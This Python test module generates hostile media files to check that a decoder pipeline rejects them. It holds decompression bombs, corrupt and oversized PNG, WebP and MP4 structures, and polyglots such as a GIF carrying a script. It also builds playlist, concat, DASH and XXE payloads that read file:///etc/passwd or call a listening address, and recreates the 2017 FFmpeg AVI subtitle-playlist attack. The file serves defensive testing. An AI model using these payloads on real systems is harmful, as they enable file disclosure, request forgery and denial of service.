"""Generators of hostile files by name. Each takes good files by container, and an address where somebody listens."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping
from pathlib import Path

from .. import media_made as made
from ..test_hostile import HOSTILE as GIFS
from ..test_hostile import one, small

CONTAINERS = (
    "gif",
    "png",
    "apng",
    "webp",
    "avif",
    "jpeg",
    "mp4",
    "mov",
    "webm",
    "mkv",
    "avi",
    "mp3",
    "wav",
    "m4a",
    "aac",
)
MAGIC = 12  # bytes by which a container is known


def good(folder: Path) -> dict[str, bytes]:
    """One small good file of each container."""
    pictures = made.scene(32, 24, 4)
    found = {
        "gif": made.gif(folder / "gif", pictures),
        "png": made.png(folder / "png", pictures[0]),
        "apng": made.apng(folder / "apng", pictures),
        "webp": made.webp(folder / "webp", pictures),
        "avif": made.avif(folder / "avif", pictures),
        "jpeg": made.jpeg(folder / "jpeg", pictures[0]),
    }
    for kind in ("mp4", "mov", "webm", "mkv", "avi"):
        found[kind] = made.film(folder / kind, pictures, kind=kind, tone_ms=200)
    for kind in ("mp3", "wav", "m4a", "aac"):
        found[kind] = made.sound(folder / kind, kind=kind, tone_ms=200)
    return {kind: path.read_bytes() for kind, path in found.items()}


def all_kinds(seeds: Mapping[str, bytes], address: str) -> dict[str, bytes]:
    """Every kind: more than 105 files of a few kilobytes."""
    found = {f"gif: {name}": make() for name, make in GIFS.items() if name not in ("a million bytes of nothing",)}
    for kind in CONTAINERS:
        found |= {f"{kind}: {name}": data for name, data in _damaged(seeds[kind]).items()}
    found |= _pngs(seeds) | _webps(seeds) | _boxes(seeds) | _riffs(seeds, address) | _texts(address) | _polyglots(seeds)
    found["gif: size changes in mid-stream"] = one(*(small(width=side, height=side) for side in (8, 200, 1, 65_000)))
    found["avi: size changes in mid-stream"] = seeds["avi"].replace(
        struct.pack("<II", 32, 24), struct.pack("<II", 9999, 1)
    )
    return found


def _damaged(data: bytes) -> dict[str, bytes]:
    """What can be done to any container."""
    middle = len(data) // 2
    return {
        "magic only": data[:MAGIC],
        "cut in the middle": data[:middle],
        "cut at the end": data[:-3],
        "zeros from the middle": data[:middle] + bytes(len(data) - middle),
        "twice": data + data,
    }


def chunk(name: bytes, body: bytes, length: int | None = None) -> bytes:
    """One chunk of a PNG, with a right sum."""
    size = len(body) if length is None else length
    return struct.pack(">I", size) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _pngs(seeds: Mapping[str, bytes]) -> dict[str, bytes]:
    data, moving = seeds["png"], seeds["apng"]
    magic = data[:8]

    def sized(width: int, height: int, depth: int = 8, color: int = 2, body: bytes = b"\0") -> bytes:
        head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
        return magic + head + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")

    control = moving.index(b"fcTL")
    return {
        "png: no size": sized(0, 0),
        "png: greatest size": sized(2**31 - 1, 2**31 - 1),
        "png: too large": sized(16_000, 16_000),
        "png: unknown colours": sized(8, 8, 8, 7),
        "png: wrong depth": sized(8, 8, 3, 2),
        "png: too little": sized(64, 64),
        "png: palette is missing": sized(8, 8, 8, 3, bytes(72)),
        "png: bomb": sized(5000, 5000, 8, 6, bytes(10_000_000)),
        "png: chunk that lies about its length": magic + chunk(b"IHDR", data[16:29], 2**31 - 1),
        "png: profile bomb": data[:33] + chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(5_000_000))) + data[33:],
        "png: text bomb": data[:33] + chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(5_000_000))) + data[33:],
        "png: wrong sums": data.replace(b"IDAT", b"IDAU"),
        "apng: frame outside": moving[: control + 8]
        + struct.pack(">IIII", 32, 24, 9000, 9000)
        + moving[control + 24 :],
        "apng: frame of the greatest size": moving[: control + 8] + b"\x7f\xff\xff\xff" * 2 + moving[control + 16 :],
        "apng: claims a million frames": moving.replace(b"acTL\0\0\0\x04", b"acTL\0\x0f\x42\x40"),
        "apng: time without a part": moving[: control + 24] + b"\xff\xff\0\0" + moving[control + 28 :],
    }


def _webps(seeds: Mapping[str, bytes]) -> dict[str, bytes]:
    data = seeds["webp"]
    frame = data.index(b"ANMF")
    return {
        "webp: canvas of the greatest size": data[:24] + b"\xff" * 6 + data[30:],
        "webp: frame outside": data[: frame + 8] + b"\xff" * 6 + data[frame + 14 :],
        "webp: frame of the greatest size": data[: frame + 14] + b"\xff" * 6 + data[frame + 20 :],
        "webp: length that lies": data[:4] + b"\xff" * 4 + data[8:],
        "webp: chunk that lies": data[: frame + 4] + b"\xff" * 4 + data[frame + 8 :],
        "webp: no picture": data[:30],
    }


def _boxes(seeds: Mapping[str, bytes]) -> dict[str, bytes]:
    found = {}
    for kind in ("mp4", "avif"):
        data = seeds[kind]
        for box, name in ((b"moov", "index"), (b"stsz", "sizes"), (b"stts", "times"), (b"stsd", "kinds")):
            at = data.find(box)
            if at > 0:
                found[f"{kind}: {name} of no length"] = data[: at - 4] + bytes(4) + data[at:]
                found[f"{kind}: {name} of the greatest length"] = data[: at - 4] + b"\xff" * 4 + data[at:]
                found[f"{kind}: {name} of great counts"] = data[: at + 8] + b"\x7f" * 8 + data[at + 16 :]
    found["mp4: box in a box without end"] = b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + b"\0\0\0\xffmoov" * 30
    found["mp4: ciphered"] = seeds["mp4"].replace(b"avc1", b"encv")
    found["mp4: unknown codec"] = seeds["mp4"].replace(b"avc1", b"FLIC")
    found["mp4: reference to another file"] = seeds["mp4"].replace(b"url \0\0\0\1", b"url \0\0\0\0")
    return found


def _riffs(seeds: Mapping[str, bytes], address: str) -> dict[str, bytes]:
    """The attack of 2017: subtitles in an AVI (GAB2) that are a playlist, which FFmpeg then reads from elsewhere."""
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nhttp://{address}/gab2\n#EXT-X-ENDLIST\n".encode()
    gab2 = b"GAB2\0\2\0" + struct.pack("<IHI", 2, 0, len(playlist)) + playlist
    avi = seeds["avi"]
    movie = avi.index(b"movi") + 4
    txts = b"strh" + struct.pack("<I", 56) + b"txts" + bytes(52)
    return {
        "avi: subtitles that are a playlist": avi[:movie] + b"02sb" + struct.pack("<I", len(gab2)) + gab2 + avi[movie:],
        "avi: text stream": avi.replace(b"strh", txts + b"strh", 1),
        "avi: no rate": avi.replace(b"strh8\0\0\0vids", b"strh8\0\0\0vidx"),
        "wav: no channels": seeds["wav"][:22] + bytes(2) + seeds["wav"][24:],
        "wav: greatest rate": seeds["wav"][:24] + b"\xff" * 4 + seeds["wav"][28:],
    }


def _texts(address: str) -> dict[str, bytes]:
    """Playlists and descriptions by which a demuxer could be led to files and addresses."""
    url, secret = f"http://{address}/canary", "file:///etc/passwd"
    texts = {
        "HLS by address": f"#EXTM3U\n#EXTINF:10,\n{url}\n#EXT-X-ENDLIST\n",
        "HLS by file": f"#EXTM3U\n#EXTINF:10,\n{secret}\n",
        "HLS of a concatenation": f"#EXTM3U\n#EXTINF:1,\nconcat:{url}|{secret}\n",
        "concat script": f"ffconcat version 1.0\nfile {secret}\nfile {url}\n",
        "concat without a head": f"file '{secret}'\n",
        "DASH": f'<?xml version="1.0"?><MPD><Period><BaseURL>{url}</BaseURL></Period></MPD>',
        "DASH with an entity": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret}">]><MPD>&e;</MPD>',
        "smooth streaming": "<SmoothStreamingMedia/>",
        "SMIL": f'<smil><body><video src="{url}"/></body></smil>',
        "SVG": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>',
        "web page": f"<html><img src={url}></html>",
        "PLS": f"[playlist]\nFile1={url}\n",
        "XBIN": "XBIN\x1a" + "\0" * 40,
        "session description": f"v=0\no=- 0 0 IN IP4 {address}\nm=video 9 RTP/AVP 96\n",
        "empty": "",
        "one byte": "G",
        "text": "GIF\n" * 20,
    }
    return {f"text: {name}": text.encode("latin-1") for name, text in texts.items()}


def _polyglots(seeds: Mapping[str, bytes]) -> dict[str, bytes]:
    script = b"<script>alert(1)</script>"
    return {
        "polyglot: GIF and a script": seeds["gif"] + script,
        "polyglot: GIF with a script as comment": seeds["gif"][:-1] + b"\x21\xfe\x19" + script + b"\0;",
        "polyglot: PNG and ZIP": seeds["png"] + b"PK\x03\x04" + bytes(30),
        "polyglot: JPEG and GIF": seeds["jpeg"] + seeds["gif"],
        "polyglot: GIF magic before an MP4": b"GIF89a" + seeds["mp4"][6:],
        "polyglot: MP4 with a playlist behind": seeds["mp4"] + b"#EXTM3U\nfile:///etc/passwd\n",
        "polyglot: WebP with the name of an AVI": seeds["webp"].replace(b"WEBP", b"AVI "),
        "polyglot: PNG magic before zeros": b"\x89PNG\r\n\x1a\n" + bytes(5000),
    }
